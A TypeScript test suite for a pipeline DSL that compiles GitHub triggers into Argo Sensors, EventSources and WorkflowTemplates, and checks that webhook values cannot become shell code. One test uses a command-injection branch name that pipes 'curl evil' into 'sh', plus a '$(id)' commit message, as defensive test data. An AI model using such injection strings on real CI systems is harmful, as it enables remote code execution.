// p.trigger: a pipeline's GitHub trigger, its Sensor emitted and checked with the WorkflowTemplate, and the
// rule that event values reach workflows only as parameters (argv/env), never as shell source.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { container, github, param, pipeline, script, simulate, synth, text, type Sensor } from '@argots/dsl';
import * as deliveries from '../simulate/deliveries.js';

type Obj = Record<string, unknown>;
const repo = 'Codertocat/Hello-World';
const connection = { url: 'https://events.example.com', webhookSecret: { name: 'github-webhook', key: 'secret' }, githubApp: { appId: 1, installationId: 2, privateKey: { name: 'app', key: 'key' } } };

const announce = container('announce', {
  inputs: { branch: param.string(), message: param.string() },
  container: (i) => ({ image: 'alpine:3.20', command: ['printf', '%s\n'], args: [i.branch], env: { MESSAGE: i.message } }),
});

function compile(value: unknown) {
  return synth([{ value, exportName: 'default', file: 'pipelines/shop.ts' }]);
}

test('given p.trigger, then synth emits the WorkflowTemplate, its Sensor and EventSource, which agree', () => {
  const r = compile(pipeline('hello-ci', (p) => {
    const push = p.trigger(github.push({ repo, branches: ['**'] }), (e) => ({ branch: e.ref, message: e.head_commit.message, revision: e.after }), { github: connection });
    p.task('announce', announce.call({ branch: push.branch, message: push.message }));
  }));
  assert.equal(r.diagnostics.filter((d) => d.severity === 'error'), []);
  assert.equal(r.files.map((f) => f.path), ['event-source/github.yaml', 'sensor/hello-ci.yaml', 'workflow-template/hello-ci.yaml']);
  const template = r.files.find((f) => f.kind === 'WorkflowTemplate')?.object as { spec: { arguments: { parameters: Obj[] } } };
  assert.equal(template.spec.arguments.parameters.map((p) => p['name']), ['branch', 'message', 'revision']);
  const sensor = r.files.find((f) => f.kind === 'Sensor')?.object as unknown as Sensor;
  const after = (deliveries.pushToBranch().body as { after: string }).after;
  const fired = simulate([sensor], deliveries.pushToBranch()).sensors[0]?.triggers[0];
  assert.is(fired?.status, 'fires');
  assert.equal(fired?.workflowParameters, { branch: 'refs/heads/master', message: 'Initial commit', revision: after });
});

test('given a hostile branch name and commit message, then they arrive verbatim as parameters, never as code', () => {
  const r = compile(pipeline('hello-ci', (p) => {
    const push = p.trigger(github.push({ repo, branches: ['**'] }), (e) => ({ branch: e.ref, message: e.head_commit.message }));
    p.task('announce', announce.call({ branch: push.branch, message: push.message }));
  }));
  assert.equal(r.diagnostics.filter((d) => d.severity === 'error'), []);
  const sensor = r.files.find((f) => f.kind === 'Sensor')?.object as unknown as Sensor;
  const evil = deliveries.pushWith('x";curl evil|sh;"', 'fix: $(id)');
  const fired = simulate([sensor], evil).sensors[0]?.triggers[0];
  assert.equal(fired?.workflowParameters, { branch: 'refs/heads/x";curl evil|sh;"', message: 'fix: $(id)' });
  const task = (r.files.find((f) => f.kind === 'WorkflowTemplate')?.object as { spec: { templates: Obj[] } }).spec.templates.find((t) => t['name'] === 'announce') as { container: { args: string[]; env: Obj[] } };
  assert.equal(task.container.args, ['{{inputs.parameters.branch}}'], 'one argv element, no shell');
});

test('given an event value inside script source, then the compiler refuses it with ARG350 and a hint', () => {
  const checkout = script('checkout', {
    inputs: { branch: param.string() },
    script: (i) => ({ image: 'alpine/git:2.45', command: ['sh'], source: text`git checkout ${i.branch}` }),
  });
  const r = compile(pipeline('hello-ci', (p) => {
    const push = p.trigger(github.push({ repo, branches: ['**'] }), (e) => ({ branch: e.ref }));
    p.task('checkout', checkout.call({ branch: push.branch }));
  }));
  const d = r.diagnostics.find((x) => x.code === 'ARG350');
  assert.ok(d, 'ARG350 reported');
  assert.is(d?.path, 'spec.templates[1].script.source');
  assert.match(d?.message ?? '', 'template "checkout" puts "{{inputs.parameters.branch}}"');
  assert.match(d?.message ?? '', 'filled from the event by Sensor "hello-ci"');
  assert.match(d?.hint ?? '', 'environment variable');
  assert.equal(r.files, [], 'nothing is written');
});

test('given an event value inside a shell -c string, then the compiler refuses it with ARG350', () => {
  const echo = container('echo', {
    inputs: { message: param.string() },
    container: (i) => ({ image: 'alpine:3.20', command: ['sh', '-c'], args: [text`echo ${i.message}`] }),
  });
  const r = compile(pipeline('hello-ci', (p) => {
    const push = p.trigger(github.push({ repo, branches: ['**'] }), (e) => ({ message: e.head_commit.message }));
    p.task('echo', echo.call({ message: push.message }));
  }));
  const d = r.diagnostics.find((x) => x.code === 'ARG350');
  assert.match(d?.message ?? '', 'inside the "sh" -c string');
  assert.ok(d?.source?.file, 'points at the authoring source');
});

test('given a Sensor written by hand that disagrees with the template, then synth reports it', () => {
  const r = compile(pipeline('hello-ci', (p) => {
    const push = p.trigger(github.push({ repo, branches: ['main'] }), (e) => ({ revision: e.after }));
    p.param('env', param.string());
    p.task('announce', announce.call({ branch: push.revision, message: 'hi' }));
  }));
  const d = r.diagnostics.find((x) => x.code === 'ARG332');
  assert.match(d?.message ?? '', 'requires parameter "env", which trigger "hello-ci" does not fill');
});

test('given a ClusterWorkflowTemplate pipeline, then its Sensor must submit with clusterScope', () => {
  const build = (clusterScope: boolean) => compile(pipeline('cluster-ci', { kind: 'ClusterWorkflowTemplate' }, (p) => {
    const push = p.trigger(github.push({ repo, branches: ['main'] }), (e) => ({ branch: e.ref, message: e.head_commit.message }), { clusterScope });
    p.task('announce', announce.call({ branch: push.branch, message: push.message }));
  }));
  const ok = build(true);
  assert.equal(ok.diagnostics.filter((d) => d.severity === 'error'), []);
  const sensor = ok.files.find((f) => f.kind === 'Sensor')?.object as unknown as Sensor;
  const ref = (sensor.spec.triggers[0]?.template?.argoWorkflow?.source?.resource as { spec: { workflowTemplateRef: unknown } }).spec.workflowTemplateRef;
  assert.equal(ref, { name: 'cluster-ci', clusterScope: true });
  const wrong = build(false).diagnostics.find((d) => d.code === 'ARG334');
  assert.match(wrong?.message ?? '', 'submits WorkflowTemplate "cluster-ci", which is not among the resources given');
});

test('given two pipelines that each bring the same GitHub EventSource, then it is written once; a different one under that name is ARG204', () => {
  const build = (name: string, conn: typeof connection) =>
    pipeline(name, (p) => {
      const push = p.trigger(github.push({ repo, branches: ['dev'] }), (e) => ({ branch: e.ref, message: e.head_commit.message }), { github: conn });
      p.task('announce', announce.call({ branch: push.branch, message: push.message }));
    });
  const same = synth([
    { value: build('build-api', connection), exportName: 'default', file: 'pipelines/api.ts' },
    { value: build('build-web', connection), exportName: 'default', file: 'pipelines/web.ts' },
  ]);
  assert.equal(same.diagnostics.filter((d) => d.severity === 'error'), []);
  assert.equal(same.files.filter((f) => f.kind === 'EventSource').map((f) => f.path), ['event-source/github.yaml']);
  assert.equal(same.files.filter((f) => f.kind === 'Sensor').length, 2);
  const different = synth([
    { value: build('build-api', connection), exportName: 'default', file: 'pipelines/api.ts' },
    { value: build('build-web', { ...connection, url: 'https://other.example.com' }), exportName: 'default', file: 'pipelines/web.ts' },
  ]);
  assert.equal(different.files, []);
  assert.equal(different.diagnostics.filter((d) => d.severity === 'error').map((d) => d.code), ['ARG204']);
  const conflict = different.diagnostics[0];
  assert.match(conflict?.message ?? '', /two different resources are both EventSource "github"/);
  assert.match(conflict?.message ?? '', 'they cannot be merged: spec.github.codertocat-hello-world.webhook.url differs: "https://events.example.com" and "https://other.example.com"');
  assert.ok(conflict?.source?.file.endsWith('pipeline-trigger.test.ts') && conflict.source.line > 1, `located at the p.trigger call: ${JSON.stringify(conflict?.source)}`);
  assert.match(conflict?.hint ?? '', 'same GitHub connection');
});

test('given two pipelines on one GitHub connection with different event lists (push, pull_request), then one EventSource listens to both', () => {
  const onPush = pipeline('build-api', (p) => {
    const push = p.trigger(github.push({ repo, branches: ['dev'] }), (e) => ({ branch: e.ref, message: e.head_commit.message }), { github: connection });
    p.task('announce', announce.call({ branch: push.branch, message: push.message }));
  });
  const onPr = pipeline('check-api', (p) => {
    const pr = p.trigger(github.pullRequest({ repo }), (e) => ({ branch: e.pull_request.head.ref, message: e.pull_request.title }), { github: connection });
    p.task('announce', announce.call({ branch: pr.branch, message: pr.message }));
  });
  const onTag = pipeline('release-api', (p) => {
    const tag = p.trigger(github.tagPushed({ repo }), (e) => ({ branch: e.ref, message: e.head_commit.message }), { github: connection });
    p.task('announce', announce.call({ branch: tag.branch, message: tag.message }));
  });
  const r = synth([
    { value: onPush, exportName: 'default', file: 'pipelines/api.ts' },
    { value: onPr, exportName: 'default', file: 'pipelines/pr.ts' },
    { value: onTag, exportName: 'default', file: 'pipelines/tag.ts' },
  ]);
  assert.equal(r.diagnostics.filter((d) => d.severity === 'error'), []);
  const sources = r.files.filter((f) => f.kind === 'EventSource');
  assert.equal(sources.map((f) => f.path), ['event-source/github.yaml']);
  const hook = (sources[0]?.object as { spec: { github: Record<string, { events: string[] }> } }).spec.github['codertocat-hello-world'];
  assert.equal(hook?.events, ['pull_request', 'push']);
  // Either order of the files gives the same YAML.
  const reversed = synth([
    { value: onTag, exportName: 'default', file: 'pipelines/tag.ts' },
    { value: onPr, exportName: 'default', file: 'pipelines/pr.ts' },
    { value: onPush, exportName: 'default', file: 'pipelines/api.ts' },
  ]);
  assert.is(reversed.files.find((f) => f.kind === 'EventSource')?.content.replace(/^#.*\n/gm, ''), sources[0]?.content.replace(/^#.*\n/gm, ''));
  // And the Sensors still tell the events apart.
  const sensors = r.files.filter((f) => f.kind === 'Sensor').map((f) => f.object as unknown as Sensor);
  const fired = (d: ReturnType<typeof deliveries.pushToBranch>) => simulate(sensors, d).sensors.filter((s) => s.triggers.some((t) => t.status === 'fires')).map((s) => s.sensor);
  assert.equal(fired(deliveries.pullRequestClosedUnmerged()), []);
  assert.equal(fired({ ...deliveries.pushWith('dev', 'x') }), ['build-api']);
});

test.run();
